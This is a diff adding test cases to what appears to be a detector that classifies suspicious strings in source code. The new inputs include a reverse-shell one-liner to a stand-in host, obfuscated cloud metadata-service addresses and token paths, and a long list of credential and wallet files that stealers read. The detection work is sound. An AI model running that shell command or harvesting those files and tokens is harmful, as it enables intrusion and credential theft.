@@ -24,6 +24,8 @@ describe('classifyString: endpoints', () => {
     ['\\\\files.example.com\\share\\x.exe', 'files.example.com', 'url'],
     ['http://127.0.0.1:7152/', '127.0.0.1', 'url'],
     ['http://localhost:5000', 'localhost', 'url'],
+    ['/dev/tcp/198.51.100.7/4444', '198.51.100.7', 'address'],
+    ['bash -i >& /dev/tcp/shell.example.com/443 0>&1', 'shell.example.com', 'url'],
   ])('finds the host in %s', (text, host, form) => {
     expect(classifyString(text)).toContainEqual(
       expect.objectContaining({ kind: 'endpoint', host, form }),
@@ -54,9 +56,45 @@ describe('classifyString: endpoints', () => {
     '100.100.100.200',
     '/latest/meta-data/iam/security-credentials/',
     '/metadata/identity/oauth2/token?api-version=2018-02-01',
+    '2822734096', // 168.63.129.16
+    '1684301000', // 100.100.100.200
+    '0251.0376.0251.0376',
+    '0xa9.254.0251.254',
+    '[::ffff:a9fe:a9fe]',
+    'fd00:0ec2:0000:0000:0000:0000:0000:0254',
+    '169.254.170.23',
+    'http://169.254.170.2/v2/credentials/0',
+    'http://localhost:50342/oauth2/token',
+    'localhost:40342',
+    '/latest/meta-data',
+    'latest/meta-data/iam/security-credentials/',
+    '/iam/security-credentials/',
+    'computeMetadata/v1/instance/service-accounts/default/token',
+    'metadata/identity/oauth2/token',
+    '/opc/v2/identity/cert.pem',
+    'X-aws-ec2-metadata-token',
+    'X-aws-ec2-metadata-token-ttl-seconds',
+    'X-aws-ec2-metadata-token: $TOKEN',
+    'Metadata-Flavor',
+    'Metadata-Flavor: Google',
+    'X-IDENTITY-HEADER',
+    'Metadata: true',
+    'Authorization: Bearer Oracle',
   ])('knows the metadata service in %s', (text) => {
     expect(classifyString(text)).toContainEqual(
       expect.objectContaining({ kind: 'endpoint', form: 'metadata-service' }),
+    );
+  });
+
+  it('tells which address a number stands for', () => {
+    expect(classifyString('2822734096')).toContainEqual(
+      expect.objectContaining({ host: '168.63.129.16', form: 'metadata-service' }),
+    );
+  });
+
+  it('knows who resolves names over HTTPS by the path', () => {
+    expect(classifyString('https://names.example.com/dns-query')).toContainEqual(
+      expect.objectContaining({ host: 'names.example.com', service: 'dns-over-https' }),
     );
   });
 
@@ -109,6 +147,19 @@ describe('classifyString: embedded keys', () => {
       'webhook',
       'script.example.com',
     ],
+    [`https://chat.example.com/open-apis/bot/v2/hook/${guid}`, 'webhook', 'chat.example.com'],
+    ['https://hooks.example.com/hooks/catch/123456/abcdef/', 'webhook', 'hooks.example.com'],
+    [
+      `https://docs.example.com/forms/d/e/1FAI${'d'.repeat(40)}/formResponse`,
+      'webhook',
+      'docs.example.com',
+    ],
+    [`https://logs.example.com/inputs/${guid}/tag/http/`, 'log-server', 'logs.example.com'],
+    [`ghp_${'0'.repeat(36)}`, 'code-hosting', ''],
+    [`github_pat_${'0'.repeat(22)}_${'0'.repeat(59)}`, 'code-hosting', ''],
+    [`SG.${'0'.repeat(22)}.${'0'.repeat(43)}`, 'mail', ''],
+    [`MTIz${'0'.repeat(20)}.${'0'.repeat(6)}.${'0'.repeat(38)}`, 'chat-bot', ''],
+    [`eyJ0.eyJpc3MiOiJzdXBhYmFzZSIs${'0'.repeat(20)}.${'0'.repeat(43)}`, 'data-service', ''],
   ])('knows %s by its shape', (text, service, host) => {
     expect(classifyString(text)).toContainEqual({ kind: 'embedded-key', service, host });
   });
@@ -120,14 +171,100 @@ describe('classifyString: embedded keys', () => {
     'InstrumentationKey=00000000-0000-0000-0000-000000000000;Ingestion=x',
     'https://example.com/api/webhooks/{id}/{token}',
     'https://example.com/api/events/',
+    'https://example.com/webhook/receive',
+    `ghp_${'0'.repeat(12)}`,
+    'Microsoft.Extensions.Configuration.UserSecrets.Version10',
+    `eyJ0.eyJpc3MiOiJ${'0'.repeat(20)}.${'0'.repeat(43)}`,
     guid,
   ])('sees no key in %s', (text) => {
     expect(classifyString(text).filter(({ kind }) => kind === 'embedded-key')).toEqual([]);
   });
 });
 
+/** Locations that stealers read, one or more a row, joined and as the pieces code joins. */
+const c1: readonly (readonly [string, string])[] = [
+  ['%APPDATA%\\NuGet\\NuGet.Config', 'nuget'],
+  ['~/.nuget/NuGet/NuGet.Config', 'nuget'],
+  ['NuGet.Config', 'nuget'],
+  ['packageSourceCredentials', 'nuget'],
+  ['MicrosoftCredentialProvider', 'nuget'],
+  ['%LOCALAPPDATA%\\MicrosoftCredentialProvider\\SessionTokenCache.dat', 'nuget'],
+  ['%APPDATA%\\Microsoft\\UserSecrets\\0\\secrets.json', 'dotnet'],
+  ['secrets.json', 'dotnet'],
+  ['~/.aspnet/DataProtection-Keys', 'dotnet'],
+  ['site.PublishSettings', 'dotnet'],
+  ['Properties/PublishProfiles/x.pubxml.user', 'dotnet'],
+  ['client.pfx', 'dotnet'],
+  ['%LOCALAPPDATA%\\.IdentityService\\msal.cache', 'ide'],
+  ['%APPDATA%\\Code\\User\\globalStorage\\state.vscdb', 'ide'],
+  ['~/Library/Application Support/Cursor/User/globalStorage', 'ide'],
+  ['VSCredentials_https://', 'ide'],
+  ['github-copilot', 'ide'],
+  ['/home/agent/.credentials_rsaparams', 'forge'],
+  ['~/.config/gh/hosts.yml', 'forge'],
+  ['%APPDATA%\\GitHub CLI\\hosts.yml', 'forge'],
+  ['hosts.yml', 'forge'],
+  ['~/.git-credentials', 'forge'],
+  ['repo/.git/config', 'forge'],
+  ['_netrc', 'forge'],
+  ['~/.config/glab-cli/config.yml', 'forge'],
+  ['/var/lib/jenkins/secrets/master.key', 'forge'],
+  ['~/.npmrc', 'package-manager'],
+  ['.pypirc', 'package-manager'],
+  ['~/.cargo/credentials.toml', 'package-manager'],
+  ['~/.m2/settings.xml', 'package-manager'],
+  ['~/.gradle/gradle.properties', 'package-manager'],
+  ['~/.composer/auth.json', 'package-manager'],
+  ['.docker', 'container'],
+  ['~/.docker/config.json', 'container'],
+  ['/var/run/docker.sock', 'container'],
+  ['\\\\.\\pipe\\docker_engine', 'container'],
+  ['~/.kube/config', 'container'],
+  ['.ssh\\id_ed25519', 'ssh-gpg'],
+  ['Software\\SimonTatham\\PuTTY\\Sessions', 'ssh-gpg'],
+  ['%APPDATA%\\gnupg\\private-keys-v1.d', 'ssh-gpg'],
+  ['~/.gnupg', 'ssh-gpg'],
+  ['~/.terraform.d/credentials.tfrc.json', 'infrastructure'],
+  ['prod.tfstate', 'infrastructure'],
+  ['~/.vault-token', 'infrastructure'],
+  ['~/.config/sops/age/keys.txt', 'infrastructure'],
+  ['.aws', 'aws'],
+  ['$HOME/.aws/sso/cache', 'aws'],
+  ['%LOCALAPPDATA%\\AWSToolkit\\RegisteredAccounts.json', 'aws'],
+  ['${HOME}/.azure/msal_token_cache.json', 'azure'],
+  ['service_principal_entries.bin', 'azure'],
+  ['AzureRmContext.json', 'azure'],
+  ['%APPDATA%\\gcloud\\credentials.db', 'gcp'],
+  ['application_default_credentials.json', 'gcp'],
+  ['~/.oci/config', 'cloud'],
+  ['~/.config/doctl/config.yaml', 'cloud'],
+  ['~/.databrickscfg', 'cloud'],
+  ['.env.production', 'database'],
+  ['%APPDATA%\\postgresql\\pgpass.conf', 'database'],
+  ['~/.claude/.credentials.json', 'ai-tool'],
+  ['claude_desktop_config.json', 'ai-tool'],
+  ['~/.codeium/windsurf/mcp_config.json', 'ai-tool'],
+  ['~/.cache/huggingface/token', 'ai-tool'],
+  ['Local State', 'browser'],
+  ['key4.db', 'browser'],
+  ['Local Extension Settings', 'browser'],
+  ['os_crypt', 'browser'],
+  ['Chrome Safe Storage', 'browser'],
+  ['StratisNode', 'wallet'],
+  ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'wallet'],
+  ['~/.config/solana/id.json', 'wallet'],
+  ['wallet.dat', 'wallet'],
+  ['Bitwarden\\data.json', 'password-manager'],
+  ['~/.password-store', 'password-manager'],
+  ['Microsoft\\Credentials', 'password-manager'],
+  ['/etc/wireguard/wg0.conf', 'network-profile'],
+  ['discord\\Local Storage\\leveldb', 'messaging'],
+  ['tdata', 'messaging'],
+  ['Steam\\config\\loginusers.vdf', 'messaging'],
+];
+
 describe('classifyString: places and variables', () => {
-  it.each([
+  it.each<[string, string, string]>([
     ['%APPDATA%\\NuGet\\NuGet.Config', 'credential', 'nuget'],
     ['~/.aws/credentials', 'credential', 'aws'],
     ['$HOME/.aws/credentials', 'credential', 'aws'],
@@ -150,6 +287,27 @@ describe('classifyString: places and variables', () => {
     ['/etc/shadow', 'system', 'linux'],
     ['/proc/1234/mem', 'system', 'linux'],
     ['~/.bash_history', 'user-data', 'history'],
+    ...c1.map(([text, area]): [string, string, string] => [text, 'credential', area]),
+    ['appsettings.Production.json', 'configuration', 'dotnet'],
+    ['appsettings.json', 'configuration', 'dotnet'],
+    ['C:\\inetpub\\wwwroot\\web.config', 'configuration', 'dotnet'],
+    ['local.settings.json', 'configuration', 'dotnet'],
+    ['DOTNET_STARTUP_HOOKS', 'startup', 'loader'],
+    ['CORECLR_PROFILER_PATH', 'startup', 'loader'],
+    ['LD_PRELOAD', 'startup', 'loader'],
+    ['../Directory.Build.targets', 'startup', 'developer'],
+    ['.git\\hooks\\post-checkout', 'startup', 'developer'],
+    ['.github/workflows/build.yml', 'startup', 'developer'],
+    ['~/.config/systemd/user/x.service', 'startup', 'linux'],
+    ['Software\\Classes\\ms-settings\\shell\\open\\command', 'startup', 'windows'],
+    ['Start Menu\\Programs\\Startup', 'startup', 'windows'],
+    ['.gemini/settings.json', 'agent-settings', 'agent'],
+    ['.cursor/rules/setup.mdc', 'agent-settings', 'agent'],
+    ['.devcontainer', 'agent-settings', 'editor'],
+    ['/etc/passwd', 'system', 'linux'],
+    ['Runner.Worker', 'system', 'linux'],
+    ['/proc/self/environ', 'system', 'linux'],
+    ['*.pem', 'credential', 'file-search'],
   ])('knows %s', (text, place, area) => {
     expect(classifyString(text)).toContainEqual({ kind: 'path', text, place, area });
   });
@@ -160,10 +318,25 @@ describe('classifyString: places and variables', () => {
     'AzureWebJobsStorage',
     'TF_VAR_db',
     'ACME_API_KEY',
+    'ACME_API_TOKEN',
+    'AZURE_TENANT_ID',
+    'NuGetPackageSourceCredentials_Contoso',
+    'SQLAZURECONNSTR_Main',
+    'STRIPE_ENDPOINT_SECRET',
+    'SLACK_SIGNING_SECRET',
+    'PGPASSWORD',
+    'KUBERNETES_SERVICE_HOST',
+    'VSS_NUGET_EXTERNAL_FEED_ENDPOINTS',
   ])('knows the secret variable %s', (name) => {
     expect(classifyString(name)).toContainEqual(
       expect.objectContaining({ kind: 'environment-variable', name }),
     );
+  });
+});
+
+describe('classifyString: gates', () => {
+  it.each(['vmtoolsd', 'SbieDll.dll', 'Wireshark.exe', 'dnSpy'])('%s is looked for', (text) => {
+    expect(classifyString(text)).toEqual([{ kind: 'gate', gate: 'analysis' }]);
   });
 });
 
@@ -214,8 +387,6 @@ describe('classifyString: what honest code is full of', () => {
     'pack://application:,,,/a',
     // paths and files of no interest
 
-    'appsettings.json',
-    'web.config',
     'obj/project.assets.json',
     'config',
     'credentials',
@@ -247,6 +418,25 @@ describe('classifyString: what honest code is full of', () => {
     'Sandboxed',
     'productions',
     'ci',
+    'Metadata',
+    'metadata/instances/5',
+    'latest/version',
+    'User Data',
+    'Credentials',
+    'Bearer',
+    'X-Requested-With: XMLHttpRequest',
+    'CONNSTR_',
+    'TF_VAR_',
+    'ERR_INVALID_PASSWORD',
+    'GRANT_TYPE_PASSWORD',
+    'fiddle.dll',
+    'System.dll',
+    '.pem',
+    '*.cs',
+    'auth.json',
+    'config.json',
+    'Code/User/snippets',
+    'The app.config/web.config files did not contain it',
   ])('says nothing of %j', (text) => {
     expect(classifyString(text)).toEqual([]);
   });
